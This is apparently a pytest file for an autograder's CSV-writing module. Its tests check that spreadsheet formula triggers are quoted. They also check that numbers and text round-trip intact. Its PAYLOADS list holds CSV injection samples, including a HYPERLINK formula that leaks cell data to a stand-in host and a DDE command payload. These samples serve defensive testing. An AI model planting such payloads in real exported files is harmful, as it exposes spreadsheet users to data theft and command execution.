"""Tests for autograder.safecsv: CSVs a spreadsheet opens without evaluating anything."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.safecsv import neutralise, read_csv, restore, write_csv
from helpers import SOFFICE, spreadsheet_cells

PAYLOADS = [
    "=1+1",
    "x\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "'=1+1",
]
"""Text cells a spreadsheet could evaluate (OWASP CSV injection), and one already quoted."""


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),
        ("x\r=1+1", "x\n=1+1"),
        ("\uff1d1", "'\uff1d1"),
        ("'=1", "''=1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e-3", "-2e-3"),
        ("ann", "ann"),
        ("a=1", "a=1"),
        ("", ""),
        ("bad\ud800", "bad\ufffd"),
        (-1.5, -1.5),
        (True, True),
    ],
)
def test_neutralise_quotes_formulas_only(value: object, written: object) -> None:
    """Is a formula-like text quoted, while numbers (even negative ones) and other text are kept?"""
    assert neutralise(value) == written


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_restore_undoes_neutralise(text: str) -> None:
    """Does reading back give the text that was written (carriage returns as line feeds)?"""
    assert restore(neutralise(text)) == text.replace("\r\n", "\n").replace("\r", "\n")


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"])))
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    """Does every neutralised cell start with something other than a trigger (or is a number)?"""
    cell = neutralise(text)
    assert "\r" not in cell
    starts_formula = bool(cell) and cell[0] in "=+-@\t\n\uff1d\uff0b\uff0d\uff20"
    plain_number = re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell) is not None
    assert not starts_formula or plain_number  # only a plain number such as -2.5 may


def test_write_csv_neutralises_cells_and_headers_but_not_kept_columns(tmp_path: Path) -> None:
    """Are text cells and headers neutralised, numbers and `keep` columns written as they are?"""
    frame = pd.DataFrame(
        {
            "student": ["=1+1", "ann"],
            "score": [-1.5, 2.0],
            "=header": ["x", "y"],
            "ID": ["-42", "=kept"],
        }
    )
    path = write_csv(frame, tmp_path / "t.csv", keep=("ID",))
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["student", "score", "'=header", "ID"],
        ["'=1+1", "-1.5", "x", "-42"],
        ["ann", "2.0", "y", "=kept"],
    ]
    assert frame.loc[0, "student"] == "=1+1"  # the caller's frame is not modified


def test_read_csv_gives_back_the_written_table(tmp_path: Path) -> None:
    """Does read_csv return exactly the table write_csv was given?"""
    frame = pd.DataFrame({"student": PAYLOADS, "score": [float(-i) for i in range(len(PAYLOADS))]})
    frame["=odd header"] = "x"
    back = read_csv(write_csv(frame, tmp_path / "t.csv"), keep_default_na=False)
    frame["student"] = frame["student"].str.replace("\r", "\n")  # the one change on the way
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


@pytest.mark.skipif(
    not SOFFICE.exists(),
    reason="needs LibreOffice (apt-get install -y --no-install-recommends libreoffice-calc-nogui)",
)
def test_libreoffice_evaluates_no_cell(tmp_path: Path) -> None:
    """Opened in LibreOffice Calc, does every cell show the text written, none a formula's value?"""
    frame = pd.DataFrame({"student": PAYLOADS, "total": [-2.5] * len(PAYLOADS)})
    path = write_csv(frame, tmp_path / "payloads.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        written = list(csv.reader(handle))
    shown = spreadsheet_cells(path, tmp_path)
    assert [row[1] for row in shown[1:]] == ["-2.5"] * len(PAYLOADS)  # numbers stay numbers
    assert len(shown) == len(written)  # no cell spilled into a row of its own
    # Calc may drop whitespace at the start of a cell; it evaluates nothing.
    assert [row[0].strip() for row in shown] == [row[0].strip() for row in written]
